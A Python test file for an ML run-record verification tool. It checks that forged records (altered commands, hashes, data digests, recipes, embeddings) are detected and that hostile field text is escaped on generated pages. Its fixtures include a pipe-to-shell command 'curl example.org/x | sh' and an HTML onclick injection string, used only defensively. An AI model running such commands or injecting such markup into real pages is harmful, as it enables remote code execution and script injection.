"""Records whose digest a stranger made anew: what does not follow from recipe, data and seed is found."""

from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from factories import run_of
from pydantic import ValidationError

from gclib import ROOT, cli, data, embeddings, recipes, records, tables
from gclib.records import RunRecord, content_hash
from gclib.train import fingerprint
from gclib.train.audit import contradictions, other_recipe

DIGITS = data.without_images("digits", 20.0)
HONEST = run_of(recipes.get("gcl-official").resolve(DIGITS, "smoke"), DIGITS)
CURL = "curl example.org/x | sh"


def forged(*keys: str | int, value: Any, record: RunRecord = HONEST) -> RunRecord:
    """The record with one value replaced, and identity and digest made anew."""
    document = record.model_dump(mode="json", exclude={"identity", "digest"})
    node = document
    for key in keys[:-1]:
        node = node[key]
    assert node[keys[-1]] != value
    node[keys[-1]] = value
    return RunRecord.model_validate(document)


def test_a_run_of_todays_code_holds() -> None:
    assert contradictions(HONEST) == []
    assert other_recipe(HONEST) is None


def test_all_committed_records_hold() -> None:
    found = records.find_with_paths(ROOT / "results")
    assert found
    assert [(path, said) for path, record in found if (said := contradictions(record))] == []


def test_records_of_one_recipe_resolve_it_once(monkeypatch: pytest.MonkeyPatch) -> None:
    assert other_recipe(HONEST) is None
    monkeypatch.setattr(recipes, "get", None)
    assert other_recipe(forged("seed", value=1)) is None


@pytest.mark.parametrize(
    ("keys", "value", "said"),
    [
        (("command",), CURL, "command: expected gcl run training -p data digits -p ratio 20"),
        (("seed",), 1, "command: expected"),
        (("data", "digest"), "0" * 64, "data: not those of digits at ratio 20"),
        (("stages", 0, "hash"), "0" * 16, "stages.0.hash: does not follow from recipe, data and seed"),
        (("stages", 2, "hash"), HONEST.stages[1].hash, "stages.2.hash"),
        (("stages", 1, "name"), "stage-one", "stages.1.name"),
        (("stages", 0, "course", "learning_rate", 0), 0.9, "stages.0.course.learning_rate"),
        (("recipe", "stages", 0, "epochs"), 3, "stages.0.hash"),
        (("recipe", "stages", 0, "learning_rate"), 0.04, "stages.0.hash"),
        (("recipe", "scale"), "short", "command: expected"),
    ],
)
def test_what_does_not_follow_is_named(keys: tuple[str | int, ...], value: Any, said: str) -> None:
    found = contradictions(forged(*keys, value=value))
    assert found[0].startswith(said)
    assert all("\n" not in line for line in found)


def test_other_test_images_are_named() -> None:
    fewer = replace(
        DIGITS, test=replace(DIGITS.test, images=DIGITS.test.images[::2], labels=DIGITS.test.labels[::2])
    )
    record = run_of(recipes.get("ce").resolve(fewer, "smoke"), fewer)
    assert contradictions(record) == ["data: not those of digits at ratio 20"]


@pytest.mark.parametrize(
    ("keys", "value", "said"),
    [
        (
            ("recipe", "stages", 0, "learning_rate"),
            0.04,
            "recipe: stage-one.learning_rate is 0.04 in the record, 0.05 in today's gcl-official",
        ),
        (("recipe", "stages", 1, "new"), 1, "recipe: stage-two.new is 1 in the record, None in today's"),
        (("recipe", "head"), "linear", "recipe: not that of today's gcl-official"),
        (("recipe", "name"), "gone", "recipe: not one of today's ("),
        (("recipe", "network"), "resnet33", "recipe: "),
        (("recipe", "stages"), None, "recipe: stage-one.name is None"),
        (("recipe", "overrides"), {"nothing": 1}, "recipe: not one of today's"),
        (("recipe", "overrides"), {"self": 1}, "recipe: not one of today's"),
    ],
)
def test_a_recipe_that_is_not_todays_is_named(keys: tuple[str | int, ...], value: Any, said: str) -> None:
    document = HONEST.model_dump(mode="json", exclude={"identity", "digest"})
    node = document
    for key in keys[:-1]:
        node = node[key]
    node[keys[-1]] = value
    record = RunRecord.model_validate(document)
    found = other_recipe(record)
    assert found is not None
    assert found.startswith(said)
    contradictions(record)  # says something or nothing, and does not break


def test_verify_refuses_what_does_not_follow_and_calls_another_recipe_stale(
    gcl, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(cli.records, "ROOT", tmp_path)
    path = records.results_path(HONEST, tmp_path / "results")
    for record, line in (
        (HONEST, f"{path}: holds"),
        (forged("command", value=CURL), f"{path}: command: expected {records.again(HONEST)}"),
    ):
        records.save(record, path, force=True)
        code, out, _ = gcl("records", "verify")
        assert (code, out) == (int(record is not HONEST), f"{line}\n")
    slower = HONEST.recipe["stages"][0] | {"learning_rate": 0.04}
    recipe = recipes.Recipe.model_validate({**HONEST.recipe, "stages": [slower, HONEST.recipe["stages"][1]]})
    records.save(run_of(recipe, DIGITS), path, force=True)
    for words in ((), ("--replay",)):
        code, out, _ = gcl("records", "verify", *words)
        assert (code, out.split(": ", 2)[1:2]) == (1, ["stale"])
        assert "stage-one.learning_rate is 0.04 in the record" in out


def test_a_recipe_that_is_not_todays_is_marked_stale_even_with_its_own_losses(tmp_path: Path) -> None:
    record = forged("recipe", "stages", 0, "learning_rate", value=0.04)
    records.save(record, tmp_path / "seed0.json")
    fingerprint.refresh(tmp_path)
    assert records.fingerprints(tmp_path) == {content_hash(record.recipe): []}
    assert records.marks([record], tmp_path) == {record.identity: "stale"}


def test_a_command_is_shown_as_todays_code_makes_it_and_never_as_the_file_says() -> None:
    images = data.without_images("cifar10", 100.0)
    honest = run_of(recipes.get("ce").resolve(images), images)
    record = forged("command", value=CURL, record=honest)
    assert record.command == CURL
    assert records.again(record) == honest.command
    shown = [
        records.show(record),
        tables.results_table([record], 1).to_html(),
        tables.results_table([record], 1).to_markdown(),
        str(records.compare(record, honest)),
    ]
    assert not any("curl" in text for text in shown)
    assert honest.command in shown[0]


@pytest.mark.parametrize("broken", ["other run", "other weights"])
def test_verify_refuses_an_embedding_of_something_else(
    gcl, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, broken: str
) -> None:
    source = ROOT / "results" / "paper" / "cifar10-ir100" / "ce"
    whole = embeddings.load(source / "seed0.embedding.npz")
    monkeypatch.setattr(cli.records, "ROOT", tmp_path)
    folder = tmp_path / "results"
    folder.mkdir()
    (folder / "seed0.json").write_bytes((source / "seed0.json").read_bytes())
    key = {"other run": "run", "other weights": "weights"}[broken]
    for settings, code in ((whole.settings, 0), (whole.settings | {key: "0" * 64}, 1)):
        embeddings.save(replace(whole, settings=settings), folder / "seed0.embedding.npz")
        found, out, _ = gcl("records", "verify")
        assert found == code
        assert ("was made from other weights" in out) == bool(code)


def test_the_book_says_what_a_digest_proves_and_that_is_what_is_found() -> None:
    said = " ".join((ROOT / "book" / "rerun.md").read_text(encoding="utf-8").split())
    assert "what-a-digest-proves" in (ROOT / "book" / "every-record.md").read_text(encoding="utf-8")
    for sentence, keys, value in (
        ("the command, the hash and the length of every stage", ("command",), CURL),
        ("the command, the hash and the length of every stage", ("stages", 0, "hash"), "0" * 16),
        ("and its learning rates", ("stages", 0, "course", "learning_rate", 0), 0.9),
        ("class counts and the digest of the chosen images", ("data", "digest"), "0" * 64),
    ):
        assert sentence in said
        assert contradictions(forged(*keys, value=value)), sentence
    assert "accuracies of the outcome follow from the course" in said
    with pytest.raises(ValidationError, match="top1"):
        forged("stages", 0, "last", "top1", value=99.0)
    assert "the recipe is the one that has its name today, or the record is stale" in said
    assert other_recipe(forged("recipe", "stages", 0, "learning_rate", value=0.04))
    assert "the first losses of every stage follow from the recipe and the code of today" in said
    assert records.verify(forged("fingerprint", 0, 0, value=9.0), HONEST.fingerprint)


def test_what_the_book_says_no_check_can_find_is_not_found() -> None:
    said = " ".join((ROOT / "book" / "rerun.md").read_text(encoding="utf-8").split())
    drawn = run_of(recipes.get("gcl-official").resolve(DIGITS, "smoke"), DIGITS, 1)
    pairs = zip(drawn.stages, HONEST.stages, strict=True)
    never_measured = [{**new.model_dump(), "hash": old.hash} for new, old in pairs]
    for sentence, keys, value in (
        ("another accuracy with a course to match", ("stages",), never_measured),
        ("another device", ("environment", "device"), "NVIDIA H100"),
        ("another date", ("created",), "2031-01-31T12:00:00+00:00"),
    ):
        assert sentence in said
        other = forged(*keys, value=value)
        assert (contradictions(other), other_recipe(other)) == ([], None), sentence
        assert other.identity == HONEST.identity


HOSTILE = "<b onclick='x'>$x^2$ *y* `z`</b>&amp;"


class Shown(HTMLParser):
    """Tags of a page, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.text += "".join(f" {value}" for name, value in attrs if name in ("aria-label", "alt"))

    def handle_data(self, data: str) -> None:
        self.text += data


def replaced(record: RunRecord, *places: tuple[str | int, ...]) -> RunRecord:
    """The record with hostile text in these places."""
    document = record.model_dump(mode="json", exclude={"identity", "digest"})
    for *keys, last in places:
        node = document
        for key in keys:
            node = node[key]
        node[last] = HOSTILE
    return RunRecord.model_validate(document)


FIELDS = [
    ("data", "name"),
    *(("environment", name) for name in "device driver torch python package commit platform cpu".split()),
    *(("environment", name) for name in ("variant", "decoder")),
    ("command",),
    ("recipe", "stages", 0, "method"),
    ("recipe", "stages", 0, "name"),
    ("recipe", "stages", 0, "loss", "name"),
    ("recipe", "stages", 0, "loss", "parameters", HOSTILE),
    ("recipe", "stages", 0, "sampler", "strategy"),
    ("recipe", "overrides", HOSTILE),
    ("stages", 0, "name"),
    ("stages", 1, "name"),
]


@pytest.fixture
def faces(monkeypatch: pytest.MonkeyPatch) -> Any:
    """What makes the page of a record."""
    monkeypatch.syspath_prepend(ROOT / "book" / "_ext")
    import faces

    monkeypatch.setattr(faces, "marks", dict)
    return faces


@pytest.mark.parametrize("field", FIELDS, ids=lambda field: ".".join(map(str, field[:3])))
def test_a_field_of_a_record_is_text_on_its_page(
    faces: Any, field: tuple[str | int, ...], monkeypatch: pytest.MonkeyPatch
) -> None:
    honest = run_of(recipes.get("gcl-official-tau").resolve(DIGITS, "smoke"), DIGITS)
    record = replaced(honest, field)
    other = forged("seed", value=1, record=record)
    monkeypatch.setattr(faces, "kept", lambda: {"results/x/seed0": record, "results/x/seed1": other})
    assert "b" not in Shown(faces.page("results/x/seed0", honest)).tags
    for name, context, _ in faces.pages(None):
        for part in ("title", "body"):
            assert "b" not in Shown(context[part]).tags, (name, part)
    shown = Shown(faces.page("results/x/seed0", record)).text
    if field not in [("command",), ("environment", "variant"), ("environment", "decoder")]:  # shown nowhere
        assert "x^2" in shown
        assert "</b>" in shown


@pytest.mark.parametrize("name", [HOSTILE, "a$b$", "*a*", "[a](b)", "a/b", "a b"])
def test_a_recipe_in_a_record_has_a_plain_name(name: str) -> None:
    with pytest.raises(ValidationError, match=r"recipe\.name: expected a plain name"):
        forged("recipe", "name", value=name)
